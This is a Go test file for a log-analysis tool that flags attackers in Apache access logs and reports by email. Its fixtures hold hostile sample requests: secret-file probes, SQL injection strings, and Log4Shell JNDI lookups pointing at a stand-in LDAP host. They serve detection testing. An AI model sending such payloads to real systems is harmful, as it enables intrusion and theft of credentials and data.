package pipeline

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"fmt"
	"io"
	"net/netip"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/logsift/logsift/internal/analysis"
	"github.com/logsift/logsift/internal/analysis/offline"
	"github.com/logsift/logsift/internal/detect"
	"github.com/logsift/logsift/internal/evidence"
	"github.com/logsift/logsift/internal/logformat"
	"github.com/logsift/logsift/internal/record"
	"github.com/logsift/logsift/internal/report"
	"github.com/logsift/logsift/internal/store"
)

// combinedLine writes one Apache combined log line.
func combinedLine(ip string, t time.Time, method, target string, status int, ua string) string {
	return combinedLineBytes(ip, t, method, target, status, 512, ua)
}

func combinedLineBytes(ip string, t time.Time, method, target string, status int, bytes int, ua string) string {
	return fmt.Sprintf("%s - - [%s] \"%s %s HTTP/1.1\" %d %d \"-\" \"%s\"\n",
		ip, t.Format("02/Jan/2006:15:04:05 -0700"), method, target, status, bytes, ua)
}

const browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"

// testLog builds a small log: benign visitors, and attackers doing things the
// rules must catch whatever their addresses.
func testLog(t *testing.T, benign int) (path string, attackers []string) {
	t.Helper()
	var b strings.Builder
	start := time.Date(2026, 11, 20, 8, 0, 0, 0, time.UTC)
	for i := 0; i < benign; i++ {
		ip := fmt.Sprintf("100.64.%d.%d", i/200, i%200+1)
		ts := start.Add(time.Duration(i) * time.Second)
		// A single-page app: every page is index.html, 1,520 bytes.
		b.WriteString(combinedLineBytes(ip, ts, "GET", "/", 200, 1520, browser))
		for _, p := range []string{"/static/app.js", "/static/app.css", "/api/items"} {
			b.WriteString(combinedLine(ip, ts, "GET", p, 200, browser))
		}
	}
	// Probes answered by the app's catch-all page: a probe, not a leak. Whether
	// a 200 is the catch-all is judged site-wide, so the chunk this client
	// lands in must not change the verdict.
	b.WriteString(combinedLineBytes("198.51.100.24", start, "GET", "/.env", 200, 1520, "curl/8.0"))
	b.WriteString(combinedLineBytes("198.51.100.24", start.Add(time.Second), "GET", "/.git/config", 404, 0, "curl/8.0"))
	attackers = []string{"198.51.100.23", "203.0.113.77", "2001:db8:7:1::5"}
	ts := start.Add(10 * time.Minute)
	for i, p := range []string{"/.env", "/.git/config", "/.aws/credentials", "/backup.sql", "/config.php.bak"} {
		b.WriteString(combinedLine(attackers[0], ts.Add(time.Duration(i)*time.Second), "GET", p, 404, "curl/8.0"))
	}
	for i, q := range []string{"id=1%20UNION%20SELECT%20password%20FROM%20users", "id=1%27%20OR%20sleep(5)--", "q=1%20AND%201=1%20union%20select%20null,null"} {
		b.WriteString(combinedLine(attackers[1], ts.Add(time.Duration(i)*time.Second), "GET", "/products?"+q, 500, browser))
	}
	b.WriteString(combinedLine(attackers[2], ts, "GET", "/", 200, "${jndi:ldap://198.51.100.9:1389/a}"))
	b.WriteString(combinedLine(attackers[2], ts.Add(time.Second), "GET", "/?x=${jndi:ldap://198.51.100.9/b}", 200, browser))
	path = filepath.Join(t.TempDir(), "access.log")
	if err := os.WriteFile(path, []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	return path, []string{"198.51.100.23", "198.51.100.24", "203.0.113.77", "2001:db8:7:1::/64"}
}

func actorsOf(r *report.Report) []string {
	var out []string
	for _, f := range r.Findings {
		out = append(out, f.Actor)
	}
	slices.Sort(out)
	return out
}

func newStages(t *testing.T) *Stages {
	return &Stages{
		Store:   store.Dir{Root: t.TempDir()},
		Detect:  detect.DefaultConfig(),
		TempDir: t.TempDir(),
	}
}

func TestLocalAndStagedRunsAgree(t *testing.T) {
	path, attackers := testLog(t, 300)
	ctx := context.Background()

	local, err := newStages(t).AnalyzeFiles(ctx, []string{path}, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range attackers {
		if !slices.Contains(actorsOf(local), a) {
			t.Errorf("local run did not report %s; findings %v", a, actorsOf(local))
		}
	}
	if local.Input.Lines != local.Input.Parsed+local.Input.Skipped+local.Input.Rejected {
		t.Errorf("input account does not add up: %+v", local.Input)
	}

	// Force several chunks so that the partitioning is exercised.
	st := newStages(t)
	st.ChunkBytes = 4 << 10
	staged, out, err := st.RunStaged(ctx, path)
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(actorsOf(local), actorsOf(staged)) {
		t.Errorf("staged run found %v, local run %v", actorsOf(staged), actorsOf(local))
	}
	verdicts := func(r *report.Report) map[string]string {
		m := map[string]string{}
		for _, f := range r.Findings {
			v := fmt.Sprint(f.Severity, f.Categories)
			for _, h := range f.Evidence.Hits {
				v += "\n" + h.Rule + ": " + h.Reason
			}
			m[f.Actor] = v
		}
		return m
	}
	lv, sv := verdicts(local), verdicts(staged)
	for a, v := range lv {
		if sv[a] != v {
			t.Errorf("%s: local run says %s, staged run %s", a, v, sv[a])
		}
	}
	if len(out.Report.JSON) == 0 || len(lv) < len(attackers) {
		t.Fatalf("too few findings to compare: %v", lv)
	}
	if staged.Input.Parsed != local.Input.Parsed || staged.Input.Actors != local.Input.Actors {
		t.Errorf("staged input %+v, local %+v", staged.Input, local.Input)
	}
	// The chunks' timelines merge into the one the local run counts.
	if local.Timeline == nil || local.Timeline.Total() != local.Input.Parsed || !reflect.DeepEqual(local.Timeline, staged.Timeline) {
		t.Errorf("timelines: local %+v (of %d rows), staged %+v", local.Timeline, local.Input.Parsed, staged.Timeline)
	}
	for _, k := range []string{out.Report.JSON, out.Report.HTML, out.Report.MD, out.Report.Text} {
		if ok, _ := st.Store.Exists(ctx, k); !ok {
			t.Errorf("report %s not stored", k)
		}
	}
}

// Parse keeps each block (IPv4 /24, IPv6 /48) in one chunk, so a scan
// rotating through neighbouring addresses reaches one engine whole.
func TestParsePartitionsByBlock(t *testing.T) {
	path, _ := testLog(t, 500)
	ctx := context.Background()
	st := newStages(t)
	st.ChunkBytes = 2 << 10
	st.MaxChunks = 5
	data, _ := os.ReadFile(path)
	src := SourceRef{Bucket: "b", Key: "uploads/access.log", ETag: "e1", Size: int64(len(data))}
	if err := st.Store.Put(ctx, src.Key, bytes.NewReader(data), ""); err != nil {
		t.Fatal(err)
	}
	out, err := st.Parse(ctx, src)
	if err != nil {
		t.Fatal(err)
	}
	if len(out.Chunks) == 0 || len(out.Chunks) > st.MaxChunks {
		t.Fatalf("%d chunks, want 1..%d", len(out.Chunks), st.MaxChunks)
	}
	seen := map[netip.Prefix]int{}
	var rows int64
	for _, c := range out.Chunks {
		rc, err := st.Store.Open(ctx, c.Key)
		if err != nil {
			t.Fatal(err)
		}
		err = readChunk(ctx, rc, func(r *record.Record) error {
			rows++
			a := record.Block(r.Client)
			if prev, ok := seen[a]; ok && prev != c.Index {
				t.Errorf("block %s in chunks %d and %d", a, prev, c.Index)
			}
			seen[a] = c.Index
			return nil
		})
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
	}
	if rows != out.Rows {
		t.Errorf("chunks hold %d rows, Parse counted %d", rows, out.Rows)
	}
}

func TestParseRejectsNonLog(t *testing.T) {
	ctx := context.Background()
	st := newStages(t)
	png := append([]byte("\x89PNG\r\n\x1a\n"), bytes.Repeat([]byte{0, 1, 2, 3}, 100)...)
	src := SourceRef{Bucket: "b", Key: "uploads/picture.csv", ETag: "x", Size: int64(len(png))}
	st.Store.Put(ctx, src.Key, bytes.NewReader(png), "")
	_, err := st.Parse(ctx, src)
	if !errors.Is(err, logformat.ErrNotALog) {
		t.Fatalf("err = %v, want ErrNotALog", err)
	}
	if !strings.Contains(err.Error(), "uploads/picture.csv") {
		t.Errorf("error does not name the file: %v", err)
	}
}

// recorder is a Notifier that remembers what it sent.
type recorder struct {
	mu   sync.Mutex
	sent []string
	fail error
	// unconfirmed: no subscriber has confirmed (SNS would take the message
	// and deliver it to no one).
	unconfirmed bool
}

func (r *recorder) Subscribed(context.Context) (bool, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	return !r.unconfirmed, nil
}

func (r *recorder) Notify(_ context.Context, subject, body string) (string, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.fail != nil {
		return "", r.fail
	}
	r.sent = append(r.sent, subject+"\n"+body)
	return fmt.Sprintf("m-%d", len(r.sent)), nil
}

func TestNotifyOncePerObjectVersion(t *testing.T) {
	path, attackers := testLog(t, 50)
	ctx := context.Background()
	st := newStages(t)
	rec := &recorder{}
	st.Notifier = rec
	_, agg, err := st.RunStaged(ctx, path)
	if err != nil {
		t.Fatal(err)
	}
	in := NotifyInput{Mode: "report", Source: agg.Source, Aggregate: &agg}

	rec.fail = errors.New("sns down")
	if _, err := st.Notify(ctx, in); err == nil {
		t.Fatal("Notify with a failing notifier returned no error")
	}
	rec.fail = nil
	out, err := st.Notify(ctx, in)
	if err != nil || !out.Sent {
		t.Fatalf("Notify after a failed send: %+v, %v (the claim must be released on failure)", out, err)
	}
	out, err = st.Notify(ctx, in)
	if err != nil || out.Sent {
		t.Fatalf("second Notify sent again: %+v, %v", out, err)
	}
	if len(rec.sent) != 1 {
		t.Fatalf("%d emails, want 1", len(rec.sent))
	}
	for _, a := range attackers {
		if !strings.Contains(rec.sent[0], a) {
			t.Errorf("email does not name %s", a)
		}
	}
	// The same object version uploaded again is recognised by Parse.
	p, err := st.Parse(ctx, agg.Source)
	if err != nil || !p.AlreadyReported {
		t.Errorf("Parse of a reported version: %+v, %v", p.AlreadyReported, err)
	}
	// A new version (new etag) is analysed again.
	src2 := agg.Source
	src2.ETag = "new"
	if p, err := st.Parse(ctx, src2); err != nil || p.AlreadyReported {
		t.Errorf("Parse of a new version: already=%v, %v", p.AlreadyReported, err)
	}
}

// TestNotifyUnconfirmed: with no confirmed subscription Notify sends nothing
// and spends no marker, in either mode, and says how to recover; once
// confirmed, the same input (a redrive) sends exactly one email.
func TestNotifyUnconfirmed(t *testing.T) {
	path, _ := testLog(t, 20)
	ctx := context.Background()
	st := newStages(t)
	rec := &recorder{unconfirmed: true}
	st.Notifier = rec
	_, agg, err := st.RunStaged(ctx, path)
	if err != nil {
		t.Fatal(err)
	}
	const arn = "arn:aws:states:us-east-1:123456789012:execution:logsift:0b4c"
	for _, in := range []NotifyInput{
		{Mode: "report", Source: agg.Source, Aggregate: &agg, Execution: arn},
		{Mode: "failure", Source: agg.Source, Execution: arn, Failure: &Failure{Stage: "Filter", Error: "Unhandled", Cause: "chunk 2: decode"}},
	} {
		t.Run(in.Mode, func(t *testing.T) {
			rec.unconfirmed = true
			_, err := st.Notify(ctx, in)
			var nc *NoConfirmedSubscription
			if !errors.As(err, &nc) {
				t.Fatalf("err = %v, want *NoConfirmedSubscription", err)
			}
			for _, want := range []string{"confirm", "redrive", "aws stepfunctions redrive-execution --execution-arn " + arn} {
				if !strings.Contains(strings.ToLower(err.Error()), strings.ToLower(want)) {
					t.Errorf("error does not say %q: %v", want, err)
				}
			}
			before := len(rec.sent)
			rec.unconfirmed = false
			for i := range 2 {
				out, err := st.Notify(ctx, in)
				if err != nil || out.Sent != (i == 0) {
					t.Fatalf("Notify %d after confirming: %+v, %v; want sent once, then already sent", i+1, out, err)
				}
			}
			if got := len(rec.sent) - before; got != 1 {
				t.Errorf("%d emails after confirming, want 1", got)
			}
		})
	}
}

// TestNotifyOn: a scheduled run (its key under QuietPrefixes) with nothing to
// report sends no email, says why, and is marked as reported; a run with
// findings, or one uploaded by hand, emails.
func TestNotifyOn(t *testing.T) {
	attacks, _ := testLog(t, 30)
	var b strings.Builder
	start := time.Date(2026, 11, 20, 8, 0, 0, 0, time.UTC)
	for i := range 40 {
		b.WriteString(combinedLine(fmt.Sprintf("100.64.0.%d", i+1), start.Add(time.Duration(i)*time.Second), "GET", "/", 200, browser))
	}
	clean := filepath.Join(t.TempDir(), "clean.log")
	if err := os.WriteFile(clean, []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name  string
		log   string
		quiet []string
		want  bool // an email
	}{
		{name: "scheduled, nothing to report", log: clean, quiet: []string{"uploads/"}, want: false},
		{name: "uploaded by hand, nothing to report", log: clean, quiet: []string{"uploads/amplify/", "uploads/digests/"}, want: true},
		{name: "scheduled with findings", log: attacks, quiet: []string{"uploads/"}, want: true},
		{name: "NotifyOn always", log: clean, quiet: nil, want: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ctx := context.Background()
			st := newStages(t)
			rec := &recorder{}
			st.Notifier, st.QuietPrefixes = rec, tt.quiet
			_, agg, err := st.RunStaged(ctx, tt.log)
			if err != nil {
				t.Fatal(err)
			}
			out, err := st.Notify(ctx, NotifyInput{Mode: "report", Source: agg.Source, Aggregate: &agg})
			if err != nil {
				t.Fatal(err)
			}
			if out.Sent != tt.want || len(rec.sent) != btoi(tt.want) {
				t.Fatalf("sent %v (%d emails), want %v: %+v", out.Sent, len(rec.sent), tt.want, out)
			}
			if !tt.want && (out.Reason != quietReason || !strings.Contains(out.Reason, "NotifyOn")) {
				t.Errorf("reason %q; the output must say why no email was sent", out.Reason)
			}
			// Either way the object version is handled: a repeated run stops at Parse.
			if p, err := st.Parse(ctx, agg.Source); err != nil || !p.AlreadyReported {
				t.Errorf("Parse after Notify: already reported %v, %v", p.AlreadyReported, err)
			}
		})
	}
}

func btoi(b bool) int {
	if b {
		return 1
	}
	return 0
}

// linker is a Linker with a fixed answer.
type linker struct {
	link store.Link
	err  error
	keys []string
}

func (l *linker) Link(_ context.Context, key string) (store.Link, error) {
	l.keys = append(l.keys, key)
	return l.link, l.err
}

// TestNotifyLink: the email carries the presigned link to the HTML report and
// until when it works, and Notify's output the end (not the link); a link that
// cannot be made leaves the console link alone.
func TestNotifyLink(t *testing.T) {
	path, _ := testLog(t, 20)
	expires := time.Date(2026, 12, 14, 10, 0, 0, 0, time.UTC)
	const url = "https://logs.s3.eu-west-1.amazonaws.com/reports/x.html?X-Amz-Expires=604800&X-Amz-Signature=abc"
	for _, l := range []*linker{{link: store.Link{URL: url, Expires: expires}}, {err: errors.New("no credentials")}} {
		ctx := context.Background()
		st := newStages(t)
		rec := &recorder{}
		st.Notifier, st.Links = rec, l
		_, agg, err := st.RunStaged(ctx, path)
		if err != nil {
			t.Fatal(err)
		}
		out, err := st.Notify(ctx, NotifyInput{Mode: "report", Source: agg.Source, Aggregate: &agg})
		if err != nil || !out.Sent {
			t.Fatalf("Notify: %+v, %v", out, err)
		}
		if len(l.keys) != 1 || l.keys[0] != agg.Report.HTML {
			t.Errorf("linked %q, want the HTML report %q", l.keys, agg.Report.HTML)
		}
		mail := rec.sent[0]
		if l.err == nil {
			if !strings.Contains(mail, "\n"+url+"\n") || !strings.Contains(mail, "2026-12-14 10:00 UTC at the latest") || out.LinkExpires == nil || !out.LinkExpires.Equal(expires) {
				t.Errorf("link expires %v; email:\n%s", out.LinkExpires, mail)
			}
			continue
		}
		if strings.Contains(mail, "no sign-in") || out.LinkExpires != nil || !strings.Contains(mail, agg.ReportURL) {
			t.Errorf("without a link: expires %v; email:\n%s", out.LinkExpires, mail)
		}
	}
}

func TestNotifyFailureMode(t *testing.T) {
	ctx := context.Background()
	st := newStages(t)
	rec := &recorder{}
	st.Notifier = rec
	in := NotifyInput{Mode: "failure", Source: SourceRef{Bucket: "b", Key: "uploads/x.csv", ETag: "e"},
		Failure: &Failure{Stage: "Parse", Error: "Unhandled", Cause: `{"errorMessage":"uploads/x.csv is not a log logsift can read: binary data (PNG image)","errorType":"wrapError"}`}}
	out, err := st.Notify(ctx, in)
	if err != nil || !out.Sent {
		t.Fatalf("%+v, %v", out, err)
	}
	msg := rec.sent[0]
	for _, want := range []string{"Parse", "uploads/x.csv", "PNG"} {
		if !strings.Contains(msg, want) {
			t.Errorf("failure email lacks %q:\n%s", want, msg)
		}
	}
}

// failingAnalyzer stands in for a model that cannot be used.
type failingAnalyzer struct{ err error }

func (f failingAnalyzer) Name() string                            { return "failing" }
func (f failingAnalyzer) Begin(analysis.RunInfo) analysis.Session { return f }

func (f failingAnalyzer) Classify(context.Context, []evidence.Actor, []evidence.Campaign) (analysis.ClassifyResult, error) {
	return analysis.ClassifyResult{}, f.err
}
func (f failingAnalyzer) Recommend(context.Context, analysis.RecommendInput) (analysis.RecommendResult, error) {
	return analysis.RecommendResult{}, f.err
}

func TestModelFailures(t *testing.T) {
	path, attackers := testLog(t, 50)
	ctx := context.Background()

	t.Run("unavailable: report from the rules", func(t *testing.T) {
		st := newStages(t)
		st.Analyzer = failingAnalyzer{fmt.Errorf("%w: enable model access", analysis.ErrUnavailable)}
		rep, err := st.AnalyzeFiles(ctx, []string{path}, nil)
		if err != nil {
			t.Fatal(err)
		}
		if !rep.Analysis.ModelUnavailable {
			t.Error("report does not say the model was unavailable")
		}
		for _, a := range attackers {
			if !slices.Contains(actorsOf(rep), a) {
				t.Errorf("attacker %s missing", a)
			}
		}
	})
	t.Run("throttled: typed error for the state machine", func(t *testing.T) {
		st := newStages(t)
		st.Analyzer = failingAnalyzer{fmt.Errorf("%w: ThrottlingException", analysis.ErrThrottled)}
		_, _, err := st.RunStaged(ctx, path)
		var mt *ModelThrottled
		if !errors.As(err, &mt) {
			t.Fatalf("err = %v, want *ModelThrottled", err)
		}
	})
}

func TestChunkCount(t *testing.T) {
	st := &Stages{ChunkBytes: 100, MaxChunks: 4}
	tests := []struct {
		size int64
		gz   bool
		want int
	}{
		{0, false, 1}, {1, false, 1}, {100, false, 1}, {101, false, 2}, {10000, false, 4}, {20, true, 2},
	}
	for _, tt := range tests {
		if got := st.chunkCount(tt.size, tt.gz); got != tt.want {
			t.Errorf("chunkCount(%d, %v) = %d, want %d", tt.size, tt.gz, got, tt.want)
		}
	}
}

func TestFailureMessage(t *testing.T) {
	tests := []struct {
		f    Failure
		want string
	}{
		{Failure{Error: "States.Timeout", Cause: ""}, "States.Timeout: "},
		{Failure{Error: "wrapError", Cause: `{"errorMessage":"boom","errorType":"wrapError"}`}, "wrapError: boom"},
		{Failure{Error: "X", Cause: "X happened"}, "X happened"},
		{Failure{Error: "wrapError", Cause: `Filter failed on chunk 3: {"errorMessage":"read chunk: unexpected EOF","errorType":"wrapError"}`},
			"wrapError: Filter failed on chunk 3: read chunk: unexpected EOF"},
	}
	for _, tt := range tests {
		if got := failureMessage(tt.f); got != tt.want {
			t.Errorf("failureMessage(%+v) = %q, want %q", tt.f, got, tt.want)
		}
	}
}

func TestParseManifest(t *testing.T) {
	ctx := context.Background()
	st := newStages(t)
	start := time.Date(2026, 11, 20, 8, 0, 0, 0, time.UTC)
	// Three small files under a batch prefix; the attacker's probes are spread
	// across them, below the threshold in each file alone.
	probes := []string{"/.env", "/.git/config", "/.aws/credentials"}
	var lines int
	for i, p := range probes {
		body := combinedLine("100.64.0.1", start.Add(time.Duration(i)*time.Minute), "GET", "/", 200, browser) +
			combinedLine("198.51.100.40", start.Add(time.Duration(i)*time.Minute), "GET", p, 404, "curl/8.0")
		lines += 2
		st.Store.Put(ctx, fmt.Sprintf("batches/2026-11-20/part-%d.log", i), strings.NewReader(body), "")
	}
	st.Store.Put(ctx, "batches/other/ignored.log", strings.NewReader(combinedLine("198.51.100.99", start, "GET", "/.env", 200, "x")), "")
	manifest := "# logsift manifest\n# the 20th\nbatches/2026-11-20/\n\nbatches/2026-11-20/part-1.log\n"
	st.Store.Put(ctx, "uploads/batch.txt", strings.NewReader(manifest), "")
	src := SourceRef{Bucket: "b", Key: "uploads/batch.txt", ETag: "m1", Size: int64(len(manifest))}

	p, err := st.Parse(ctx, src)
	if err != nil {
		t.Fatal(err)
	}
	if p.Objects != 3 || p.Rows != int64(lines) {
		t.Fatalf("objects %d rows %d, want 3 objects (duplicates named once) and %d rows", p.Objects, p.Rows, lines)
	}
	agg := AggregateInput{Parse: p}
	for _, c := range p.Chunks {
		fo, err := st.Filter(ctx, FilterInput{Run: p.Run, Chunk: c})
		if err != nil {
			t.Fatal(err)
		}
		agg.Chunks = append(agg.Chunks, AnalyzeOutput{Run: p.Run, Chunk: fo.Chunk, EvidenceKey: fo.EvidenceKey, Suspicious: fo.Suspicious})
	}
	out, err := st.Aggregate(ctx, agg)
	if err != nil {
		t.Fatal(err)
	}
	var rep report.Report
	if err := st.getJSON(ctx, out.Report.JSON, &rep); err != nil {
		t.Fatal(err)
	}
	if got := actorsOf(&rep); !slices.Equal(got, []string{"198.51.100.40"}) {
		t.Errorf("findings %v, want only the attacker spread across the batch", got)
	}

	// A prefix wider than meant ("w", "uploads/b/") also lists logsift's own
	// files under work/ and reports/ and the manifest itself: they are left out.
	st.Store.Put(ctx, "wide/part.log", strings.NewReader(combinedLine("100.64.0.2", start, "GET", "/", 200, browser)), "")
	st.Store.Put(ctx, "uploads/b/extra.log", strings.NewReader(combinedLine("100.64.0.3", start, "GET", "/", 200, browser)), "")
	wide := "# logsift manifest\nw\nuploads/b/\n"
	st.Store.Put(ctx, "uploads/b/wide.txt", strings.NewReader(wide), "")
	p, err = st.Parse(ctx, SourceRef{Bucket: "b", Key: "uploads/b/wide.txt", ETag: "m2", Size: int64(len(wide))})
	if err != nil {
		t.Fatalf("manifest with wide prefixes: %v", err)
	}
	if p.Objects != 2 || p.Rows != 2 {
		t.Errorf("manifest with wide prefixes: %d objects, %d rows; want the two logs only", p.Objects, p.Rows)
	}

	// With a log prefix (on AWS, all Parse may read besides the uploads),
	// a line outside it is refused before anything is listed.
	st.LogPrefix = "batches/"
	if _, err := st.Parse(ctx, SourceRef{Bucket: "b", Key: "uploads/b/wide.txt", ETag: "m3"}); err == nil || !strings.Contains(err.Error(), "outside the log prefix batches/") {
		t.Errorf("manifest outside the log prefix: err = %v", err)
	}
	st.LogPrefix = ""

	for name, m := range map[string]string{
		"own prefix": "# logsift manifest\nwork/\n",
		"own only":   "# logsift manifest\nrep\n",
		"missing":    "# logsift manifest\nbatches/nothing-here/\n",
		"empty":      "# logsift manifest\n# nothing\n",
	} {
		key := "uploads/bad-" + strings.ReplaceAll(name, " ", "-") + ".txt"
		st.Store.Put(ctx, key, strings.NewReader(m), "")
		if _, err := st.Parse(ctx, SourceRef{Bucket: "b", Key: key, ETag: name}); err == nil {
			t.Errorf("manifest %q: no error", name)
		}
	}
}

func TestAnalyzeFolder(t *testing.T) {
	dir := t.TempDir()
	start := time.Date(2026, 11, 20, 8, 0, 0, 0, time.UTC)
	for i, p := range []string{"/.env", "/.git/config"} {
		body := combinedLine("198.51.100.41", start.Add(time.Duration(i)*time.Minute), "GET", p, 404, "curl/8.0")
		os.MkdirAll(filepath.Join(dir, "sub"), 0o755)
		os.WriteFile(filepath.Join(dir, "sub", fmt.Sprintf("%d.log", i)), []byte(body), 0o644)
	}
	os.WriteFile(filepath.Join(dir, ".hidden.log"), []byte("not a log at all\n"), 0o644)
	rep, err := newStages(t).AnalyzeFiles(context.Background(), []string{dir}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if rep.Input.Parsed != 2 || !slices.Equal(actorsOf(rep), []string{"198.51.100.41"}) {
		t.Errorf("parsed %d, findings %v; want 2 rows and the attacker across both files", rep.Input.Parsed, actorsOf(rep))
	}
	if _, err := newStages(t).AnalyzeFiles(context.Background(), []string{t.TempDir()}, nil); err == nil {
		t.Error("an empty folder gave no error")
	}
}

// TestParseMessageBounded checks that Parse's one-line message, part of the
// state output Step Functions caps at 256 KiB, names only a few of the inputs
// that ended early however many a manifest names.
func TestParseMessageBounded(t *testing.T) {
	ctx := context.Background()
	st := newStages(t)
	start := time.Date(2026, 11, 20, 8, 0, 0, 0, time.UTC)
	var body strings.Builder
	for i := range 200 {
		body.WriteString(combinedLine("100.64.0.1", start.Add(time.Duration(i)*time.Second), "GET", "/", 200, browser))
	}
	cutGz := cutGzip(body.String())
	const files = 20
	for i := range files {
		st.Store.Put(ctx, fmt.Sprintf("batches/cut/%02d.log.gz", i), bytes.NewReader(cutGz), "")
	}
	manifest := "# logsift manifest\nbatches/cut/\n"
	st.Store.Put(ctx, "uploads/cut.txt", strings.NewReader(manifest), "")
	p, err := st.Parse(ctx, SourceRef{Bucket: "b", Key: "uploads/cut.txt", ETag: "c1", Size: int64(len(manifest))})
	if err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(p.Message, "batches/cut/"); n != maxMessageErrors {
		t.Errorf("message names %d inputs, want %d: %q", n, maxMessageErrors, p.Message)
	}
	if want := fmt.Sprintf("and %d more", files-maxMessageErrors); !strings.Contains(p.Message, want) {
		t.Errorf("message %q does not say %q", p.Message, want)
	}
	var in report.Input
	if err := st.getJSON(ctx, p.InputKey, &in); err != nil {
		t.Fatal(err)
	}
	if len(in.Errors) != files {
		t.Errorf("input account keeps %d errors, want all %d", len(in.Errors), files)
	}
}

// cutGzip compresses s and drops the trailer: reading it ends early.
func cutGzip(s string) []byte {
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write([]byte(s))
	zw.Close()
	return gz.Bytes()[:gz.Len()-10]
}

// TestLocalErrorsNameTheFile checks that a local run over several files says
// which one ended early, as a manifest run does.
func TestLocalErrorsNameTheFile(t *testing.T) {
	dir := t.TempDir()
	line := combinedLine("100.64.0.1", time.Date(2026, 11, 20, 8, 0, 0, 0, time.UTC), "GET", "/", 200, browser)
	cut := filepath.Join(dir, "b.log.gz")
	os.WriteFile(filepath.Join(dir, "a.log"), []byte(line), 0o644)
	os.WriteFile(cut, cutGzip(strings.Repeat(line, 100)), 0o644)
	rep, err := newStages(t).AnalyzeFiles(context.Background(), []string{dir}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Input.Errors) != 1 || !strings.HasPrefix(rep.Input.Errors[0], cut+": input ended early") {
		t.Errorf("errors %q, want one naming %s", rep.Input.Errors, cut)
	}
}

// versionedDir is a Dir whose uploads have one current ETag.
type versionedDir struct {
	store.Dir
	etag string
}

func (d versionedDir) OpenVersion(ctx context.Context, key, etag string) (io.ReadCloser, error) {
	if etag != d.etag {
		return nil, fmt.Errorf("%s: %w", key, store.ErrChanged)
	}
	return d.Open(ctx, key)
}

// TestParseReadsTheAnnouncedVersion checks that Parse reads the object
// version its event names: a run for an overwritten version fails and says
// why, instead of reporting the newer content under the older version.
func TestParseReadsTheAnnouncedVersion(t *testing.T) {
	ctx := context.Background()
	st := newStages(t)
	st.Store = versionedDir{Dir: store.Dir{Root: t.TempDir()}, etag: "new"}
	line := combinedLine("100.64.0.1", time.Date(2026, 11, 20, 8, 0, 0, 0, time.UTC), "GET", "/", 200, browser)
	st.Store.Put(ctx, "uploads/a.log", strings.NewReader(line), "")
	if _, err := st.Parse(ctx, SourceRef{Bucket: "b", Key: "uploads/a.log", ETag: "new"}); err != nil {
		t.Fatalf("current version: %v", err)
	}
	_, err := st.Parse(ctx, SourceRef{Bucket: "b", Key: "uploads/a.log", ETag: "old"})
	if !errors.Is(err, store.ErrChanged) || !strings.Contains(err.Error(), "replaced after this upload event") {
		t.Errorf("replaced version: err = %v", err)
	}
}

// runRecorder is the offline analyzer, recording what each session was told.
type runRecorder struct {
	offline.Analyzer
	mu   *sync.Mutex
	runs *[]analysis.RunInfo
}

func (r runRecorder) Begin(run analysis.RunInfo) analysis.Session {
	r.mu.Lock()
	defer r.mu.Unlock()
	*r.runs = append(*r.runs, run)
	return r.Analyzer.Begin(run)
}

// On AWS each chunk is analysed by its own invocation; each must get its share
// of the run's token budget, not the whole of it. Aggregate's session, which
// writes the advice, is told the run's format.
func TestAnalyzeSharesTheRunBudget(t *testing.T) {
	path, _ := testLog(t, 300)
	st := newStages(t)
	st.ChunkBytes = 4 << 10
	var runs []analysis.RunInfo
	st.Analyzer = runRecorder{mu: &sync.Mutex{}, runs: &runs}
	if _, _, err := st.RunStaged(context.Background(), path); err != nil {
		t.Fatal(err)
	}
	if len(runs) < 2 {
		t.Fatalf("sessions %+v, want one per analysed chunk and one for Aggregate", runs)
	}
	chunks, agg := runs[:len(runs)-1], runs[len(runs)-1]
	for _, r := range chunks {
		if r.Chunks < 2 || r.Chunks != chunks[0].Chunks {
			t.Errorf("chunk sessions %+v: each wants the same 1/n of the budget, n > 1", chunks)
		}
	}
	if agg.Chunks > 1 || agg.Format != "combined" {
		t.Errorf("Aggregate's session %+v, want the whole budget and format combined", agg)
	}
}
